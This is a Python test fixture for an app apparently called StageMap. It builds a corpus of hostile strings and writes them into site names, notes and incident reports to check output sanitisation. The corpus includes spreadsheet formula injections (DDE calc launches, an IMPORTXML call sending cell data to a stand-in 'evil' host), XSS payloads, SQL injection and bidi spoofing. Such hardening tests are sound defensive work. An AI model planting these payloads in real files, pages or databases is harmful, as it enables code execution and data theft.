"""A corpus of hostile strings: formula injections, markup, control characters, huge and unusual text.

Every output of StageMap must survive each of these as a site name, note, reason, description or
owner name: no crash, no formula cell, no markup that renders, and a visible ellipsis where a
string is too long to print whole.
"""
from __future__ import annotations

import datetime as dt
from dataclasses import dataclass, field
from pathlib import Path

from geo import schema
from geo.access.roles import Actor
from geo.errors import SchemaError
from geo.intake.reports import IncidentReport
from geo.services.intake import submit_incident
from geo.services.reports import write_monthly
from geo.services.status import override_tier, save_site_status
from geo.store import Store, open_store
from geo.synthetic import generate_sample

LONG_5K = "A" * 5_000  # an unbroken 5,000-character name: no space to wrap at
LONG_50K = "B" * 50_000
LONG_WORDS = "word " * 4_000  # 20,000 characters with spaces
ALL_C0 = "".join(chr(i) for i in range(0x20))  # U+0000-U+001F, NUL included

#: Strings a spreadsheet would run as a formula (before or after control characters are stripped).
FORMULAS = [
    '=HYPERLINK("http://evil","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")',
    "\x00=1+1",
    "\x1b=2+2",
    "\n=3+3",
    "-",
]

#: Markup for Markdown, HTML, ReportLab's mini-HTML, JavaScript templates and format strings.
MARKUP = [
    "<img src=http://evil/x.png>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "![x](http://evil/b.png)",
    "[x](javascript:alert(1))",
    "**bold**",
    "&lt;img src=x&gt; &amp; &#60;script&#62;",
    "`code` and ```fence```",
    "${alert(1)}",
    "{{7*7}}",
    "<b>bold</b> & more",
    "# Heading",
    "> quoted",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    ":red[coloured] :material/warning: $x^2$",
    '<a href="http://evil">click</a>',
    "<iframe src=http://evil></iframe>",
    "<svg onload=alert(1)>",
    "C:\\evil\\path\\ ends with \\",
    "_italic_ ~~struck~~",
    "1. numbered",
    "<!-- hidden -->",
    "<http://evil.example/track.png>",
    "[ref]\n\n[ref]: http://evil/",
    "<para>x</para><font size=500>big</font>",
    "'; DROP TABLE sites; --",
    "%s %d {0} %(name)s",
]

#: Control, separator, bidi and invisible characters.
CONTROL = [
    "a\x00b",
    "C0:" + ALL_C0 + ":end",
    "x\x7fy",
    "line\u2028sep\u2029para",
    "\u202egnp.exe",
    "a\u200db\u200cc\ufeffd",
    "tab\tand\vvertical\fform",
    "\x1b[31mred\x1b[0m",
    "\u2066isolate\u2069 \u202aembed\u202c",
]

#: Very long strings.
LONG = [LONG_5K, LONG_50K, LONG_WORDS, "=" + "x" * 5_000]

#: Text outside Latin-1: emoji, CJK, right-to-left, combining marks.
UNICODE = [
    "\U0001f6a7\U0001f3d7\ufe0f \U0001f46e\u200d\u2640\ufe0f \U0001f1fa\U0001f1f8",
    "洛杉矶市政府停车场",
    "موقف سيارات مدينة لوس أنجلوس",
    "שלום abc 123",
    "Z\u0338\u0321\u031ba\u0337l\u0336g\u0334o\u0335",
    "Ñandú Café São Paulo",
]

CORPUS: list[str] = [*FORMULAS, *MARKUP, *CONTROL, *LONG, *UNICODE]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: The corpus names one hostile department as well (site owners' department names are free text).
HOSTILE_DEPARTMENTS = ['=HYPERLINK("http://evil","dept")', "<img src=http://evil/d.png> Dept",
                       "![d](http://evil/d.png) Works"]


def label(text: str) -> str:
    """Return a short printable id of a corpus string (for test ids and messages)."""
    shown = text[:24].encode("unicode_escape").decode("ascii")
    return f"{shown}...({len(text)})" if len(text) > 24 else shown


# --- a store full of hostile text, written through geo/services ------------------------------
DEPT = "Recreation and Parks (RAP)"
#: Who saves the hostile statuses and overrides: a user name is text from a user, too.
HOSTILE_USER = "<img src=http://evil/u.png> ![u](http://evil/u.png) **boss**"
AS_OF = dt.date(2026, 6, 1)  # after the sign deadline: every unsigned hostile site is overdue
MONTH, MONTH_AS_OF = "2026-03", dt.date(2026, 4, 15)


@dataclass
class HostileStore:
    """The store and where each corpus string went (lists aligned with :data:`CORPUS`)."""

    store: Store
    path: Path
    site_ids: list[str]
    incident_ids: list[str]
    refused_notes: list[str] = field(default_factory=list)  # messages of notes refused at the door
    monthly: list[Path] = field(default_factory=list)


def build_hostile_store(folder: Path) -> HostileStore:
    """Write the synthetic sample with the corpus as site names, addresses, departments and owner names.

    Then, through geo/services: a status note and a tier override per hostile site (by a user
    with a hostile name), the B.8 monthly report, and one incident report per corpus string
    (description and location text) on a private parcel owned by that string.
    """
    sample = generate_sample(n_parcels=200, n_incidents=40)
    frames = dict(sample.frames)
    sites = frames[schema.SITES].copy()
    rows = sites.index[sites[schema.OWNING_DEPT] == DEPT][:len(CORPUS)]
    sites.loc[rows, schema.NAME] = CORPUS
    sites.loc[rows, schema.ADDRESS] = CORPUS[::-1]
    other = sites.index[sites[schema.OWNING_DEPT] == "General Services (GSD)"][:len(HOSTILE_DEPARTMENTS)]
    sites.loc[other, schema.OWNING_DEPT] = HOSTILE_DEPARTMENTS
    parcels = frames[schema.PARCELS].copy()
    private = parcels.index[parcels[schema.OWNER_NAME].isna()]
    parcels.loc[private, schema.OWNER_NAME] = [CORPUS[i % len(CORPUS)] for i in range(len(private))]
    incidents = frames[schema.INCIDENTS].copy()
    incidents[schema.DESCRIPTION] = [CORPUS[i % len(CORPUS)] for i in range(len(incidents))]
    frames.update({schema.SITES: sites, schema.PARCELS: parcels, schema.INCIDENTS: incidents})
    path = folder / "hostile.gpkg"
    store = open_store(str(path))
    store.write_layers(frames, mode="replace", status=sample.status)
    out = HostileStore(store, path, sites.loc[rows, schema.SITE_ID].tolist(), [])
    _statuses_and_overrides(out)
    out.monthly = write_monthly(store, Actor("records desk", "records"), month=MONTH, out=folder, as_of=MONTH_AS_OF)
    points = parcels.loc[private[:len(CORPUS)]].geometry.representative_point()
    for text, point in zip(CORPUS, points, strict=True):
        report = IncidentReport(incident_type="staging_area", lat=point.y, lon=point.x, occurred_at="2026-03-02T10:00",
                                source_type="officer", description=text, location_text=text)
        out.incident_ids.append(submit_incident(store, Actor("records desk", "records"), report).incident_id)
    return out


def _statuses_and_overrides(out: HostileStore) -> None:
    editor, reviewer = Actor(HOSTILE_USER, "admin"), Actor(HOSTILE_USER, "planner")
    versions = out.store.read_status().set_index(schema.SITE_ID)[schema.VERSION]
    for site, text in zip(out.site_ids, CORPUS, strict=True):
        changes = {schema.STATUS_NOTE: text, schema.SIGN_STATUS: "none", schema.GATE_STATUS: "open"}
        try:
            save_site_status(out.store, editor, site, changes, expect_version=int(versions[site]))
        except SchemaError as exc:  # control characters are refused at the door, naming the field
            out.refused_notes.append(str(exc))
            changes[schema.STATUS_NOTE] = "".join(c for c in text if c >= " " or c in "\t\n\r")
            save_site_status(out.store, editor, site, changes, expect_version=int(versions[site]))
        override_tier(out.store, reviewer, site, "high", reason=text)
